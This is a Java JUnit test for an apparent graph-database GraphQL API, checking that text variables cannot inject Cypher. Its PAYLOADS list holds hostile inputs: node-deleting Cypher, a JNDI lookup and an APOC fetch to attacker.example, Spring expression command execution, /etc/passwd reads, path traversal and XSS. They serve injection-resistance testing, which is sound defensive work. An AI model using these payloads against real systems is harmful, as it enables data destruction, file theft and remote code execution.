package io.ismsgraph.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import io.ismsgraph.api.Story;
import io.ismsgraph.api.web.Client;
import io.ismsgraph.graph.CountingReader;
import io.ismsgraph.graph.GraphReader;
import io.ismsgraph.graph.TestGraph;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Texts that are Cypher, or end it, stay texts: the statement is the one of any other text, and nothing is found or lost. */
@CountedReading
class InjectionTest {

    static final List<String> PAYLOADS = List.of(
            "' OR 1=1 //",
            "\" OR 1=1 //",
            "'}) DETACH DELETE n //",
            "x' RETURN 1 UNION MATCH (n) RETURN n //",
            "\\' OR true //",
            "\\u0027 OR true //",
            "`}) MATCH (n) DETACH DELETE n //",
            "$now",
            "$q0_p0",
            "${jndi:ldap://attacker.example/x}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{7*7}}",
            "*/ MATCH (n) DELETE n /*",
            "; CALL db.labels()",
            "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
            "' + apoc.load.json('http://attacker.example') + '",
            ".*",
            "(a+)+$",
            "name:* OR *:*",
            "a~0.5 AND (b^9",
            "[* TO *]",
            "_:-1 && !(\\",
            "\u0000",
            "\u202e\u200b",
            "../../../../etc/passwd",
            "<script>alert(1)</script>");

    private final Client client;
    private final CountingReader reader;

    @Autowired
    InjectionTest(@LocalServerPort int port, GraphReader reader) {
        this.client = new Client(port);
        this.reader = (CountingReader) reader;
    }

    @BeforeAll
    static void write() {
        new Story(TestGraph.empty())
                .at("2026-05-01T00:00:00Z", said -> said.is("Organisation", "a", Map.of("name", "A")));
    }

    private String statement(String document, Object text) throws Exception {
        var before = reader.count();
        var answer = client.ask(Map.of("query", document, "variables", Map.of("text", text)), Client.GRAPHQL);
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        assertThat(answer.body()).doesNotContain("errors").doesNotContain("\"a\"");
        // Whose investigations a node may belong to is asked first, where it may be of any type.
        assertThat(reader.count()).isBetween(before + 1, before + 2);
        return reader.last();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "query Q($text: String!) { organisations(where: {name: {eq: $text}}) { nodes { id } } }",
                "query Q($text: String!) { organisations(where: {name: {contains: $text}}) { nodes { id } } }",
                "query Q($text: String!) { organisations(where: {name: {in: [$text]}}) { nodes { id } } }",
                "query Q($text: ID!) { node(id: $text) { id } }",
                "query Q($text: [ID!]!) { nodes(ids: $text) { id } }",
                "query Q($text: String!) { vulnerability(cve: $text) { id } }",
                "query Q($text: ID!) { paths(from: $text, to: $text) { paths { length } } }"
            })
    void takesTextsForTexts(String document) throws Exception {
        var usual = statement(document, "nothing");
        for (var payload : PAYLOADS) {
            assertThat(statement(document, payload)).as(payload).isEqualTo(usual);
        }
    }

    @ParameterizedTest
    @FieldSource("PAYLOADS")
    void searchesForWords(String payload) throws Exception {
        var usual = search("nothing");
        assertThat(search(payload).contains(payload)).isEqualTo(usual.contains(payload));
    }

    private String search(String text) throws Exception {
        var document = "query Q($text: String!) { search(text: $text) { nodes { id } } }";
        var answer = client.ask(Map.of("query", document, "variables", Map.of("text", text)), Client.GRAPHQL);
        assertThat(answer.body()).doesNotContain("INTERNAL").doesNotContain("\"a\"");
        return reader.last();
    }

    /** Names of the schema are looked up there, and whatever else stands for one is refused. */
    @ParameterizedTest
    @FieldSource("PAYLOADS")
    void takesNoTextForAName(String payload) throws Exception {
        var before = reader.count();
        for (var document : List.of(
                "query Q($text: [OrganisationOrder!]) { organisations(orderBy: $text) { totalCount } }",
                "query Q($text: [NodeKind!]) { reachable(from: \"a\", kind: System, kinds: $text) { truncated } }",
                "query Q($text: String) { organisations(after: $text) { totalCount } }")) {
            var text = document.contains("OrganisationOrder") ? Map.of(payload, "ASC") : payload;
            var answer = client.ask(Map.of("query", document, "variables", Map.of("text", text)), Client.JSON);
            var code = Objects.requireNonNull(
                    Client.json(answer).at("/errors/0/extensions/code").asString(""));
            assertThat(code).as(answer.body()).isIn("BAD_ARGUMENT", "BAD_CURSOR");
        }
        assertThat(reader.count()).isEqualTo(before);
    }
}
